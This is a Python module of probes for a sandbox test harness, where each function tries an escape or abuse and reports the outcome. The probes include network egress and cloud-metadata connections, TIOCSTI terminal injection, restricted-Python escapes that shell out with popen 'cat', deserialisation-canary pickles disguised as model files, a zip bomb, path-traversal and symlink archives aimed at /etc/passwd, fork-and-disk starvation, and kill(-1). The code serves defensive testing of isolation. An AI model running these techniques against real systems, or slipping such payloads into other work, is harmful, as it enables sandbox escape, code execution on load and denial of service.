"""What hostile code would try, for the trials: entries that run inside, try, and report.

They judge nothing: `novum.sandbox.trials` compares what they report, and what the host saw, with what
was promised. Where one runs outside as a control, it does no harm.
"""

import array
import contextlib
import ctypes
import errno
import fcntl
import functools
import os
import pickle
import signal
import socket
import sys
import termios
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any, Final

_PATIENCE_S: Final = 1.0


def reach_out(ports: dict[str, int], addresses: list[str]) -> dict[str, str]:
    """Try every way out of the machine that a socket offers; return what each came to.

    Args:
        ports: name → TCP port of the host's loopback interface that listens.
        addresses: further addresses of the host itself.
    """
    ways: dict[str, Callable[[], Any]] = {
        **{f"loopback {name}": _connecting("127.0.0.1", port) for name, port in ports.items()},
        **{f"host {address} {port}": _connecting(address, port) for address in addresses
           for port in ports.values()},
        "loopback v6": _connecting("::1", next(iter(ports.values())), socket.AF_INET6),
        "public v4": _connecting("192.0.2.1", 80),
        "public v6": _connecting("2001:db8::1", 80, socket.AF_INET6),
        "metadata": _connecting("169.254.169.254", 80),
        "datagram v4": _sending("192.0.2.1", 53, socket.AF_INET),
        "datagram v6": _sending("2001:db8::1", 53, socket.AF_INET6),
        "names": lambda: socket.getaddrinfo("example.org", 80),
        "raw": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).close(),
        "packet": lambda: socket.socket(17, socket.SOCK_RAW, 3).close(),
        "netlink": lambda: socket.socket(16, socket.SOCK_RAW, 0).close(),
        "vsock": lambda: socket.socket(40, socket.SOCK_STREAM, 0).close(),
    }  # fmt: skip
    return {name: _outcome(way) for name, way in ways.items()}


def knock(paths: list[str]) -> list[str]:
    """Return the Unix sockets of `paths` that could be connected."""
    return [path for path in paths if _outcome(functools.partial(_connect_unix, path)) == "done"]


def call_kernel_often(calls: list[tuple[str, int, list[int]]]) -> dict[str, int]:
    """Make system calls by number, each in a child of its own; return name → errno, 0, or ``-signal``."""
    libc = ctypes.CDLL(None, use_errno=True)
    answers = {}
    for name, number, arguments in calls:
        child = os.fork()
        if child == 0:
            done = libc.syscall(ctypes.c_long(number), *(ctypes.c_long(a) for a in arguments))
            os._exit(min(ctypes.get_errno(), 250) if done < 0 else 0)
        _, status = os.waitpid(child, 0)
        answers[name] = -os.WTERMSIG(status) if os.WIFSIGNALED(status) else os.WEXITSTATUS(status)
    return answers


def type_into_terminals(text: str) -> list[str]:
    """Push characters into every terminal that can be reached; return where that worked."""
    places = []
    for name in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/tty1", 0, 1, 2):
        for request in (termios.TIOCSTI, termios.TIOCSTI | 1 << 32, 0x541C):
            try:
                fd = name if isinstance(name, int) else os.open(name, os.O_RDWR | os.O_NOCTTY)
                for character in text:
                    _ioctl(fd, request, character.encode())
            except OSError:
                continue
            places.append(f"{name} {request:#x}")
    return places


def read_some(paths: list[str]) -> list[str]:
    """Return the files of `paths` from which something could be read."""
    found = []
    for path in paths:
        with contextlib.suppress(OSError):
            fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            try:
                if os.read(fd, 4096):
                    found.append(path)
            finally:
                os.close(fd)
    return found


def open_for_writing(paths: list[str]) -> list[str]:
    """Return the existing files of `paths` that could be opened for writing; nothing is written."""
    found = []
    for path in paths:
        with contextlib.suppress(OSError):
            os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK | os.O_CLOEXEC))
            found.append(path)
    return found


def make_files(directories: list[str], name: str) -> list[str]:
    """Return the directories in which a file could be made."""
    made = []
    for directory in directories:
        with contextlib.suppress(OSError):
            Path(directory, name).touch()
            made.append(directory)
    return made


def escape_by_python(secret: str) -> list[str]:
    """Use known ways out of "restricted" Python; return what each got of the file `secret`.

    References:
        CVE-2025-5120, CVE-2025-9959 (smolagents).
    """

    def by_class_hierarchy() -> str:
        kinds: list[Any] = ().__class__.__base__.__subclasses__()  # type: ignore[union-attr]
        for kind in kinds:
            if kind.__name__ == "_wrap_close":
                popen: Any = kind.__init__.__globals__["popen"]
                return str(popen(f"cat {secret}").read())
        return ""

    def by_getattr() -> str:
        return str(getattr(__import__("o" + "s"), "po" + "pen")(f"cat {secret}").read())

    def by_frames() -> str:
        frame = sys._getframe()
        while frame.f_back is not None:
            frame = frame.f_back
        reader = frame.f_builtins["open"]
        with reader(secret, encoding="utf-8") as file:
            return str(file.read())

    def by_foreign_functions() -> str:
        libc = ctypes.CDLL(None)
        buffer = ctypes.create_string_buffer(200)
        fd = libc.open(secret.encode(), 0)
        libc.read(fd, buffer, 199)
        return buffer.value.decode("utf-8", "replace")

    def by_compiled_code() -> str:
        names: dict[str, Any] = {}
        exec(compile(f"import io; got = io.FileIO({secret!r}).read()", "<s>", "exec"), names)  # noqa: S102
        return str(names["got"].decode())

    got = []
    for way in (by_class_hierarchy, by_getattr, by_frames, by_foreign_functions, by_compiled_code):
        try:
            got.append(way())
        except Exception as error:  # noqa: BLE001  (each way may fail in a way of its own)
            got.append(type(error).__name__)
    return got


class _Touch:
    """Unpickled, it makes a file: what a canary for deserialisation is."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (self.path,)


def leave_pickles(marker: str) -> list[str]:
    """Leave files in out/ that would make the directory `marker` if they were ever unpickled."""
    harm = pickle.dumps(_Touch(marker))
    header = b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    files = {
        "plain.pkl": harm,
        "model.pt": harm,
        "data.joblib": harm,
        "objects.npy": header.ljust(127) + b"\n" + harm,
    }
    for name, data in files.items():
        Path("out", name).write_bytes(data)
    return sorted(files)


def leave_archives() -> list[str]:
    """Leave archives in out/ that unpack to far more than they are, or to elsewhere."""
    import io
    import tarfile
    import zipfile

    with zipfile.ZipFile("out/bomb.zip", "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("zeros", b"\0" * (50 << 20))
    with zipfile.ZipFile("out/away.zip", "w") as away:
        away.writestr("../../away", b"x")
    with tarfile.open("out/links.tar", "w") as links:
        link = tarfile.TarInfo("link")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        links.addfile(link)
        inside = tarfile.TarInfo("link/inside")
        inside.size = 1
        links.addfile(inside, io.BytesIO(b"x"))
    return ["away.zip", "bomb.zip", "links.tar"]


def fill_deeply(depth: int) -> int:
    """Make directories within directories; return how deep it went."""
    for reached in range(depth):
        try:
            os.mkdir("d")  # noqa: PTH102  (a path would become too long)
            os.chdir("d")
        except OSError:
            return reached
    return depth


def end_by(how: str) -> None:
    """End the process in the way named; see also `novum.sandbox.inside.probes.end`."""
    match how:
        case "c++":
            library = ctypes.CDLL("libstdc++.so.6")
            library._ZSt17__throw_bad_allocv()
        case "kill":
            os.kill(os.getpid(), signal.SIGKILL)
        case "all":
            os.kill(-1, signal.SIGKILL)
        case "stop":
            os.kill(os.getpid(), signal.SIGSTOP)
            time.sleep(60)  # the first process of a namespace is not stopped from inside
        case "recursion":
            sys.setrecursionlimit(1 << 30)
            _recurse()


def _recurse() -> int:
    return _recurse() + 1


def hold_open_shared(name: str) -> dict[str, str]:
    """Leave named shared things of every kind: memory, semaphores, queues; return what each came to."""
    libc = ctypes.CDLL(None, use_errno=True)
    key = 0x6E6F7675

    def system_five(function: Any, *arguments: Any) -> Callable[[], None]:
        def call() -> None:
            if function(*arguments) < 0:
                raise OSError(ctypes.get_errno(), "refused")

        return call

    queue = getattr(libc, "mq_open", None)
    ways: dict[str, Callable[[], Any]] = {
        "shmget": system_five(libc.shmget, key, 4096, 0o1666),
        "semget": system_five(libc.semget, key, 1, 0o1666),
        "msgget": system_five(libc.msgget, key, 0o1666),
    }
    if queue is not None:
        ways["mq_open"] = system_five(queue, f"/{name}".encode(), os.O_CREAT | os.O_RDWR, 0o666, None)
    return {way: _outcome(attempt) for way, attempt in ways.items()}


def find_shared() -> list[str]:
    """Return the System V objects that exist under the key of `hold_open_shared`."""
    libc = ctypes.CDLL(None, use_errno=True)
    key = 0x6E6F7675
    found = {"shm": libc.shmget(key, 0, 0), "sem": libc.semget(key, 0, 0), "msg": libc.msgget(key, 0)}
    return [kind for kind, id in found.items() if id >= 0]


def starve(seconds: float) -> list[int]:
    """Fork, fill and spin all at once for a while; return how much of each."""
    stop = time.monotonic() + seconds
    forks = files = 0
    while time.monotonic() < stop:
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                while time.monotonic() < stop:
                    pass
                os._exit(0)
            forks += 1
        with contextlib.suppress(OSError):
            Path(f"f{files}").write_bytes(b"x" * (1 << 20))
            files += 1
    return [forks, files]


def _connecting(host: str, port: int, family: int = socket.AF_INET) -> Callable[[], None]:
    def connect() -> None:
        with socket.socket(family, socket.SOCK_STREAM) as client:
            client.settimeout(_PATIENCE_S)
            client.connect((host, port))

    return connect


def _sending(host: str, port: int, family: int) -> Callable[[], None]:
    def send() -> None:
        with socket.socket(family, socket.SOCK_DGRAM) as client:
            client.settimeout(_PATIENCE_S)
            client.sendto(b"x", (host, port))

    return send


def _connect_unix(path: str) -> None:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
        client.settimeout(_PATIENCE_S)
        client.connect(path)


def _ioctl(fd: int, request: int, data: bytes) -> None:
    if request < 1 << 32:
        fcntl.ioctl(fd, request, array.array("b", data))
        return
    libc = ctypes.CDLL(None, use_errno=True)  # the standard library cuts the request to 32 bits
    if libc.ioctl(fd, ctypes.c_ulong(request), ctypes.c_char_p(data)) < 0:
        raise OSError(ctypes.get_errno(), "ioctl")


def _outcome(attempt: Callable[[], Any]) -> str:
    try:
        attempt()
    except OSError as error:
        return errno.errorcode.get(error.errno or 0, type(error).__name__)
    return "done"
